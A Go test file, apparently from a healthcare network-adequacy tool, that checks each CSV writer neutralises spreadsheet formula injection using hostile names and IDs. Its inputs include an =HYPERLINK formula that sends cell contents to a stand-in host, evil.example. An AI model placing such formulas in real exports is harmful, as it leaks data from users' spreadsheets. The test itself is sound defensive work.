package report

import (
	"bytes"
	"encoding/csv"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/geoaccess/geoaccess/adequacy"
	"github.com/geoaccess/geoaccess/data"
	"github.com/geoaccess/geoaccess/data/csvsafe"
	"github.com/geoaccess/geoaccess/data/hsd"
)

// formulaStart reports whether a spreadsheet could take a cell as a
// formula: its first character other than a space is one that starts one.
func formulaStart(s string) bool {
	s = strings.TrimLeft(s, " ")
	return s != "" && strings.ContainsRune("=+-@\t\r\n\x00", rune(s[0]))
}

// TestNoFormulaCells walks every CSV writer of the project with hostile
// member IDs, provider names and county names: no cell a spreadsheet
// reads starts a formula unless it is a plain number (a longitude), and
// every hostile value is still there, neutralised, not dropped.
func TestNoFormulaCells(t *testing.T) {
	_, rep, picks, rej := sampleReport(t)
	dir := t.TempDir()
	var files []string
	write := func(name string, fn func() error) {
		t.Helper()
		if err := fn(); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		files = append(files, name)
	}
	// County names come from the county table (--hsd FILE): a hostile one,
	// on copies of the rows.
	rows := slices.Clone(rep.Counties)
	for i := range rows {
		c := *rows[i].County
		c.Name = hostileNames[i%len(hostileNames)]
		rows[i].County = &c
	}
	write("adequacy.csv", func() error { return WriteAdequacy(dir, &adequacy.GapReport{Counties: rows}) })
	write("unserved.csv", func() error { return WriteUnserved(dir, rep) })
	write("member_access.csv", func() error { return WriteAccess(dir, rep) })
	write("rejected.csv", func() error { return WriteRejected(dir, rej) })
	write("recruitment.csv", func() error { return WriteRecruitment(dir, picks) })

	// The impact and criticality tables: hostile member IDs, provider
	// names, and county names on copies of the rows.
	im, crit, _, _ := sampleImpact(t)
	hostileIm := *im
	hostileIm.Rows = slices.Clone(im.Rows)
	for i := range hostileIm.Rows {
		c := *hostileIm.Rows[i].County
		c.Name = hostileNames[i%len(hostileNames)]
		hostileIm.Rows[i].County = &c
	}
	write("impact.csv", func() error { return WriteImpact(dir, &hostileIm) })
	write("members_lost.csv", func() error { return WriteChangedMembers(dir, "members_lost.csv", im.Lost) })
	write("members_gained.csv", func() error { return WriteChangedMembers(dir, "members_gained.csv", im.Gained) })
	write("criticality.csv", func() error { return WriteCriticality(dir, crit) })

	// data.WriteRoster (the sample roster command, tests): hostile names,
	// addresses and networks, and negative longitudes that stay numbers.
	roster, err := data.SampleRoster()
	if err != nil {
		t.Fatal(err)
	}
	ps := slices.Clone(roster.Providers[:40])
	for i := range ps {
		h := hostileNames[i%len(hostileNames)]
		ps[i].Name, ps[i].Address.Line1, ps[i].Networks = h, h, []string{h}
	}
	write("roster.csv", func() error {
		return writeFile(filepath.Join(dir, "roster.csv"), func(b *bytes.Buffer) error { return data.WriteRoster(b, ps) })
	})

	// data.WriteMembers (the sample members command).
	ms := []adequacy.GapMember{{ID: "-5", Point: ps[0].Location, HasPoint: true}, {ID: "=1+1", ZIP: "10001"}, {ID: "@x", ZIP: "10001", CountyFIPS: "36061"}}
	write("members.csv", func() error {
		return writeFile(filepath.Join(dir, "members.csv"), func(b *bytes.Buffer) error { return data.WriteMembers(b, ms) })
	})

	// hsd.WriteTable (standards import-hsd): county names and notes come
	// from a workbook.
	ct, err := data.EmbeddedCounties()
	if err != nil {
		t.Fatal(err)
	}
	var counties []adequacy.County
	for _, c := range ct.Counties.All()[:20] {
		counties = append(counties, *c)
	}
	for i := range counties {
		counties[i].Name = hostileNames[i%len(hostileNames)]
		counties[i].Note = "-" + counties[i].Note
	}
	write("hsd.csv", func() error {
		return writeFile(filepath.Join(dir, "hsd.csv"), func(b *bytes.Buffer) error { return hsd.WriteTable(b, "test", counties) })
	})

	hostile := append(slices.Clone(hostileNames), `=HYPERLINK("http://evil.example/?"&A1,"x")`, "@SUM(1+1)", "-5", "+1", "=1+1", "@x")
	for _, name := range files {
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		if name == "hsd.csv" {
			b = b[bytes.IndexByte(b, '\n')+1:] // the "# source:" line
		}
		cr := csv.NewReader(bytes.NewReader(b))
		cr.FieldsPerRecord = -1
		recs, err := cr.ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		found := map[string]bool{}
		for i, rec := range recs {
			for j, cell := range rec {
				if formulaStart(cell) && !csvsafe.PlainNumber(cell) {
					t.Errorf("%s record %d column %s: %q starts a formula", name, i+1, recs[0][j], cell)
				}
				if v := csvsafe.Unescape(cell); slices.Contains(hostile, v) {
					found[v] = true
					if !strings.HasPrefix(cell, "'") {
						t.Errorf("%s record %d column %s: %q is not neutralised", name, i+1, recs[0][j], cell)
					}
				}
			}
		}
		if len(found) == 0 {
			t.Errorf("%s: no hostile value made it into the file: the test proves nothing", name)
		}
	}
}

func writeFile(path string, fn func(*bytes.Buffer) error) error {
	var b bytes.Buffer
	if err := fn(&b); err != nil {
		return err
	}
	return os.WriteFile(path, b.Bytes(), 0o644)
}

// TestCSVWritersUseCSVSafe keeps it so: no code of the project writes CSV
// with encoding/csv, whose writer leaves formulas live; csvsafe is the
// one path.
func TestCSVWritersUseCSVSafe(t *testing.T) {
	root := filepath.Join("..", "..")
	writer := regexp.MustCompile(`csv\.NewWriter\(`)
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && (d.Name() == "testdata" || strings.HasPrefix(d.Name(), ".")) && path != root {
			return filepath.SkipDir
		}
		if d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return nil
		}
		b, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		if writer.Match(b) {
			t.Errorf("%s writes CSV with encoding/csv: use data/csvsafe", path)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}
